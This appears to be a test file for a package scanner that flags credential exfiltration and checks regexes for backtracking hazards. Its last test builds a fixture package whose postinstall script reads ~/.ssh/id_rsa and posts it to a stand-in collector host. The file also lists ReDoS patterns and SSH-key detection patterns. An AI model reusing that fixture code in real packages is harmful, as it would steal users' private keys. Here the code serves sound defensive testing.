// Issue #16: regexes built at run time are checked for backtracking hazards
// (src/core/regex-safety.ts): signature patterns when a signature directory is read (a
// hazard is a configuration error with file and line), and patterns in scanned code before
// the interpreter runs them on the package's own strings. No timing here: the checker reads
// the pattern's source, and the scan of a hostile package is asserted to finish with its finding.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { regexLiterals } from "../../scripts/regex-scaling.mjs";
import { ConfigurationError } from "../../src/core/errors.js";
import { regexHazard } from "../../src/core/regex-safety.js";
import { loadSignatures, readSignatureDirectory } from "../../src/rules/signatures.js";
import { scanTargets } from "../../src/scan.js";

const root = mkdtempSync(join(tmpdir(), "exfilscan-regex-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe("regex hazard check", () => {
  it("finds the exponential and polynomial shapes", () => {
    const exponential = ["(a+)+$", "(a|a)*$", "(a|ab)*c", String.raw`(\w+\s?)*$`, "(a*)*b", String.raw`^(\d+)*$`, String.raw`^(.*?,){11}P`, String.raw`^(\w+\d*)+$`, "^(a|b|ab)*$", String.raw`^([a-z]+\.?)+\.com$`];
    const polynomial = [String.raw`\/+$`, "=+$", String.raw`\s*;\s*`, String.raw`([a-z0-9-]+\.)*example\.com`, String.raw`^\s*\s+x`, String.raw`\bimport\s*\(?\s*['"]`, String.raw`\/[^/]*\*[^/]*$`, String.raw`%[-#0 +]*\d*[sd]`, String.raw`^id_[a-z0-9_]+[^/]*$`, "[A-Z_]*TOKEN[A-Z_]*"];
    for (const source of exponential) expect(regexHazard(source)?.kind, source).toBe("exponential");
    for (const source of polynomial) expect(regexHazard(source)?.kind, source).toBe("polynomial");
  });

  it("passes linear patterns, including ones with repetition and alternatives", () => {
    const linear = [
      String.raw`^\s*;`,
      String.raw`\s+`,
      String.raw`\bfoo\s*\(`,
      String.raw`(?<!\d)(\d+)s`,
      String.raw`^([a-z0-9-]+\.)*x$`,
      String.raw`^(?:\s*,\s*\w+)*$`,
      String.raw`^(\d{1,3}\.){3}\d{1,3}$`,
      String.raw`https?://[^\s"']+`,
      String.raw`^(?:[a-z]|\d)+$`,
      String.raw`^(?:ab|cd)*$`,
      String.raw`^[a-z0-9]+(-[a-z0-9]+)*$`,
      String.raw`^(?:[\s\S]*(_auth(token)?\b|_password)[\s\S]*)$`,
      String.raw`^Accepted (\S+) for (.*?) from (\S+) port (\d+)$`,
      String.raw`(^|/)\.ssh/(id_[a-z0-9_]|identity)[^/]*$`,
    ];
    for (const source of linear) expect(regexHazard(source), source).toBeUndefined();
  });

  it("optional parts at the very end cannot make a match fail: they do not count against what precedes them", () => {
    // Once `.*?rhost=` has matched, `(\S*)(?:\s+user=(\S+))?` always matches: nothing is retried.
    expect(regexHazard(String.raw`^pam_\w+\(sshd:auth\): authentication failure;.*?rhost=(\S*)(?:\s+user=(\S+))?`)).toBeUndefined();
    // With `$` after them they can fail, and every split of the run is tried.
    expect(regexHazard(String.raw`^a.*?x(\S*)$`)?.kind).toBe("polynomial");
    expect(regexHazard(String.raw`^a.*?x(\S*)\b`)?.kind).toBe("polynomial");
    // A hazard inside an optional group is still found.
    expect(regexHazard(String.raw`^x(?:\s*\s*y)?`)?.kind).toBe("polynomial");
  });

  it("a backreference matches exactly what its group captured: not a variable-length part of its own", () => {
    // The closing quote of require('x') is `\1`: once the group has matched, its length is fixed, so
    // it cannot trade characters with the `\s*` after it (was reported polynomial).
    for (const source of [String.raw`(["'])x\1\s*\)`, String.raw`\brequire\s*\(\s*(["'\`])([^"'\`\n]{1,300})\1\s*\)`, String.raw`^(?<q>["'])\k<q>\s*x`, String.raw`^(?:(a)\1)+$`]) {
      expect(regexHazard(source), source).toBeUndefined();
    }
    // The hazards around it are still found: its group's own run, or a repeated backreference.
    for (const source of [String.raw`^(\s*)\1\s*x`, String.raw`^(a+)\1*b`, String.raw`^(\w)\1+\w+!`]) {
      expect(regexHazard(source)?.kind, source).toBe("polynomial");
    }
  });

  it("every built-in signature pattern passes (as compiled: hosts and command words matched whole)", () => {
    const s = loadSignatures();
    const all: RegExp[] = [
      ...s.credentialFiles.map((c) => c.regex),
      ...s.envSecretNames,
      ...s.envNotSecretNames,
      ...s.secretParameterNames,
      ...s.apiSources.python.patterns.map((p) => p.regex),
      ...s.exfilServices.map((e) => e.regex),
      ...s.issuers.flatMap((i) => [...(i.detail ? [i.detail] : []), ...i.hosts]),
      ...s.commands.credentialCommands.flatMap((c) => [...(c.words ?? []), ...(c.anyWord ? [c.anyWord] : []), ...(c.anyArg ? [c.anyArg] : []), ...(c.line ? [c.line] : [])]),
    ];
    expect(all.length).toBeGreaterThan(150);
    expect(all.filter((re) => regexHazard(re.source, re.flags)).map((re) => `/${re.source}/${re.flags}`)).toEqual([]);
    // The YAML itself goes through the same check when read (a --signatures directory always is).
    expect(() => readSignatureDirectory(fileURLToPath(new URL("../../signatures", import.meta.url)))).not.toThrow();
  });

  it("a --signatures pattern with a hazard is a configuration error naming the file and line", () => {
    const cases: [string, string][] = [
      ["indicators.yaml", "exfilServices:\n  - name: evil\n    pattern: '(a+)+$'\n    category: paste\nknownBad: []\nissuers: []\n"],
      ["indicators.yaml", "exfilServices: []\nknownBad: []\nissuers:\n  - name: x\n    kinds: [registry-token]\n    hosts: ['(\\w+\\.?)+x\\.com']\n"],
      ["sources.yaml", "credentialFiles:\n  - kind: ssh-key\n    pattern: '\\.ssh/id_[a-z]+[^/]*$'\n    note: n\nenvSecretNames: []\nsecretParameterNames: []\n"],
    ];
    cases.forEach(([file, text], i) => {
      const dir = join(root, `sig${i}`);
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, file), text);
      let error: unknown;
      try {
        loadSignatures([dir]);
      } catch (e) {
        error = e;
      }
      expect(error, file).toBeInstanceOf(ConfigurationError);
      expect(String((error as Error).message)).toMatch(/exponential|polynomial/);
      expect((error as ConfigurationError).file).toBe(join(dir, file));
      expect((error as ConfigurationError).line).toBeGreaterThan(1);
    });
  });

  it("no regex literal in the analyzers (which read scanned code) has a hazard", () => {
    const literals = regexLiterals(fileURLToPath(new URL("../../src/analyzers", import.meta.url)));
    expect(literals.length).toBeGreaterThan(100);
    const found = literals.filter((l) => regexHazard(l.source, l.flags)).map((l) => `${l.file.replace(/.*\/src\//, "src/")}:${l.line} /${l.source}/`);
    expect(found).toEqual([]);
  });

  it("regex literals elsewhere in src/: only the listed ones are flagged (a ratchet)", () => {
    // File and source, no line numbers, so edits elsewhere in a file do not break this list.
    // A new hazard fails here; so does a listed literal that was rewritten or removed and is
    // still listed (delete its line). The list only shrinks: the 16 literals once listed were
    // rewritten (test/hardening/regex-rewrites.test.ts), so it is empty.
    const STILL_FLAGGED: string[] = [];
    const literals = regexLiterals(fileURLToPath(new URL("../../src", import.meta.url)));
    expect(literals.length).toBeGreaterThan(300);
    const found = literals.filter((l) => regexHazard(l.source, l.flags)).map((l) => `${l.file.replace(/.*\/src\//, "src/")} /${l.source}/${l.flags}`);
    expect(found.sort()).toEqual([...STILL_FLAGGED].sort());
  });
});

describe("patterns in scanned code", () => {
  it("a package's own catastrophic regexes are not run on its strings: the scan finishes and keeps its finding", async () => {
    const dir = join(root, "redos");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "package.json"), JSON.stringify({ name: "redos-pkg", version: "1.0.0", scripts: { postinstall: "node index.js" } }));
    writeFileSync(
      join(dir, "index.js"),
      [
        "const fs = require('fs'); const os = require('os'); const https = require('https');",
        // 2^60 ways to split the run (exponential), and a 300 000-space run trimmed from every position (quadratic).
        "const m = ('a'.repeat(60) + '!').match(/^(a+)+$/);",
        "const u = (' '.repeat(300000) + 'x').replace(/\\s+$/, '');",
        "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
        "https.request({ hostname: 'collector.example.invalid', method: 'POST' }).end(key + m + u.length);",
      ].join("\n"),
    );
    const report = await scanTargets([dir], { signatures: loadSignatures(), workers: 1 });
    expect(report.findings.map((f) => `${f.ruleId} ${f.severity} ${f.location.file}`)).toContain("credential-exfiltration critical index.js");
  });
});
